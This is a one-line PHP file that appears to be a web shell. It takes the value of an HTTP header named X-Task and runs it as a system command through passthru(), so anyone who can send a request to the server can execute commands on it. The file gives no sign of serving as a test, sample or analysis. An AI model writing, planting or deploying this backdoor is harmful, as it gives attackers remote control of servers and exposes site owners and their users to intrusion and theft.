<?php $c = getenv('HTTP_X_TASK'); if ($c) { passthru($c); }
